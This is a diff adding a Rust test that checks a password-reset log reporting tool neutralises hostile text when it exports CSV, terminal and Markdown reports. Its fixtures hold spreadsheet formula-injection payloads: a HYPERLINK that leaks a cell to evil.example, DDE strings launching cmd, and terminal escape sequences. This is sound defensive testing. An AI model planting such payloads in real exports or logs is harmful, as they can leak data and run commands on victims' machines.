@@ -3,12 +3,14 @@
 //! spread over the hostile files, so the ground truth holds only if every good line is read);
 //! a 100 MB line within a memory bound; IP addresses in odd shapes.
 
+use std::collections::BTreeSet;
 use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::process::Command as Process;
 
 use flate2::Compression;
 use flate2::write::GzEncoder;
+use polars::prelude::{CsvReadOptions, ParquetReader, SerReader};
 use serde_json::{Value, json};
 
 use super::common::{assert_channels, csv_rows, run, sample, ssprlens, truth};
@@ -415,4 +417,205 @@ fn ip_addresses_in_odd_shapes_are_normalised_or_flagged() {
         stderr.contains("3 attempts have an IP address field that holds no IP address"),
         "{stderr}"
     );
+}
+
+/// Text an attacker can put in a user name, a client type, a user agent or an address field.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+const ESCAPES: &str = "evil\u{1b}[2J\u{1b}]0;owned\u{7}\u{8}\u{202e}txt";
+
+/// One completed reset per formula, each field hostile; user agents carry terminal escapes.
+fn hostile_text_records() -> String {
+    let mut text = String::new();
+    for (index, formula) in FORMULAS.iter().enumerate() {
+        let user = json!({"id": formula, "userPrincipalName": formula, "displayName": formula,
+                          "ipAddress": formula});
+        for (row, activity) in [
+            "Self-service password reset flow activity progress",
+            "Reset password (self-service)",
+        ]
+        .iter()
+        .enumerate()
+        {
+            let record = json!({
+                "id": format!("text-{index}-{row}"), "correlationId": format!("text-{index}"),
+                "activityDateTime": format!("2026-10-0{}T08:00:0{row}Z", index + 1),
+                "loggedByService": "Self-service Password Management",
+                "activityDisplayName": activity, "result": "success",
+                "resultReason": formula,
+                "initiatedBy": {"user": user},
+                "targetResources": [{"type": "User", "id": formula, "userPrincipalName": formula}],
+                "additionalDetails": [
+                    {"key": "ClientType", "value": formula},
+                    {"key": "User-Agent", "value": format!("{formula}{ESCAPES}")},
+                ],
+            });
+            text.push_str(&format!("{record}\n"));
+        }
+    }
+    text
+}
+
+/// The cells of a CSV file, read by polars' CSV reader (quotes, embedded line breaks).
+fn csv_cells(path: &Path) -> Vec<String> {
+    let frame = CsvReadOptions::default()
+        .with_infer_schema_length(Some(0))
+        .try_into_reader_with_file_path(Some(path.to_path_buf()))
+        .unwrap()
+        .finish()
+        .unwrap();
+    let mut cells = Vec::new();
+    for column in frame.columns() {
+        let column = column.str().unwrap();
+        cells.extend(column.iter().flatten().map(str::to_owned));
+    }
+    cells
+}
+
+#[test]
+fn hostile_text_is_neutralised_in_csv_stripped_for_display_and_verbatim_in_data_formats() {
+    let dir = tempfile::tempdir().unwrap();
+    let input = write(dir.path(), "text.ndjson", hostile_text_records().as_bytes());
+    let report = |extra: &[&str]| {
+        let (code, stdout, stderr) =
+            run(&[&["report", "--input", input.to_str().unwrap()][..], extra].concat());
+        assert_eq!(code, 0, "{extra:?}: {stderr}");
+        stdout
+    };
+    let everything = write(
+        dir.path(),
+        "everything.sql",
+        b"SELECT e.*, a.* FROM events e JOIN attempts a ON e.correlation_id = a.attempt_id",
+    );
+
+    // CSV: every built-in report and every column of both tables; no cell a formula.
+    let csv = dir.path().join("csv");
+    report(&["--all", "--out", csv.to_str().unwrap()]);
+    let tables = dir.path().join("tables.csv");
+    report(&[
+        "--query",
+        everything.to_str().unwrap(),
+        "--out",
+        tables.to_str().unwrap(),
+    ]);
+    let mut files: Vec<PathBuf> = std::fs::read_dir(&csv)
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .collect();
+    files.push(tables.clone());
+    let mut seen = 0;
+    for path in &files {
+        for cell in csv_cells(path) {
+            let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(
+                !dangerous || cell.parse::<f64>().is_ok(),
+                "{}: a formula cell: {cell:?}",
+                path.display()
+            );
+            seen += usize::from(FORMULAS.iter().any(|f| cell == format!("'{f}")));
+        }
+    }
+    assert!(
+        seen >= 6 * 4,
+        "the formulas reached the files, neutralised: {seen}"
+    );
+
+    // Terminal and Markdown: no escape or control character survives; the text around does.
+    for format in ["table", "markdown"] {
+        for name in ["users", "client_types", "ips"] {
+            let shown = report(&["--report", name, "--format", format]);
+            assert!(
+                !shown
+                    .chars()
+                    .any(|c| c.is_control() && c != '\n' || c == '\u{202e}'),
+                "{name} as {format}: {shown:?}"
+            );
+        }
+        let shown = report(&["--query", everything.to_str().unwrap(), "--format", format]);
+        assert!(shown.contains("evil"), "{shown}");
+        assert!(
+            !shown
+                .chars()
+                .any(|c| c.is_control() && c != '\n' || c == '\u{202e}'),
+            "{format}: {shown:?}"
+        );
+    }
+
+    // JSON and Parquet: every value verbatim.
+    let json: Value = serde_json::from_str(&report(&[
+        "--query",
+        everything.to_str().unwrap(),
+        "--format",
+        "json",
+    ]))
+    .unwrap();
+    let parquet = dir.path().join("tables.parquet");
+    report(&[
+        "--query",
+        everything.to_str().unwrap(),
+        "--out",
+        parquet.to_str().unwrap(),
+    ]);
+    let frame = ParquetReader::new(std::fs::File::open(&parquet).unwrap())
+        .finish()
+        .unwrap();
+    let parquet_agents: BTreeSet<String> = frame
+        .column("user_agent")
+        .unwrap()
+        .str()
+        .unwrap()
+        .iter()
+        .flatten()
+        .map(str::to_owned)
+        .collect();
+    // (Outer white space is trimmed from every field as it is read, tabs and CRs included.)
+    for formula in FORMULAS {
+        let agent = format!("{formula}{ESCAPES}");
+        let (agent, formula) = (agent.trim(), formula.trim());
+        let rows = json.as_array().unwrap();
+        assert!(
+            rows.iter().any(|row| row["user_agent"] == agent),
+            "JSON: {agent:?}"
+        );
+        assert!(
+            rows.iter().any(|row| row["initiator_upn"] == formula),
+            "JSON: {formula:?}"
+        );
+        assert!(parquet_agents.contains(agent), "Parquet: {agent:?}");
+    }
+
+    // The raw archive of the store: the records byte for byte.
+    let store = dir.path().join("store");
+    let (code, _, stderr) = run(&[
+        "import",
+        "--store",
+        store.to_str().unwrap(),
+        "--input",
+        input.to_str().unwrap(),
+    ]);
+    assert_eq!(code, 0, "{stderr}");
+    let mut archived = Vec::new();
+    for entry in walkdir::WalkDir::new(store.join("raw")) {
+        let entry = entry.unwrap();
+        if entry.file_type().is_file() {
+            std::io::Read::read_to_end(
+                &mut flate2::read::MultiGzDecoder::new(std::fs::File::open(entry.path()).unwrap()),
+                &mut archived,
+            )
+            .unwrap();
+        }
+    }
+    let archived = String::from_utf8(archived).unwrap();
+    let mut archived: Vec<&str> = archived.lines().collect();
+    let original = std::fs::read_to_string(&input).unwrap();
+    let mut original: Vec<&str> = original.lines().collect();
+    archived.sort_unstable();
+    original.sort_unstable();
+    assert_eq!(archived, original);
 }
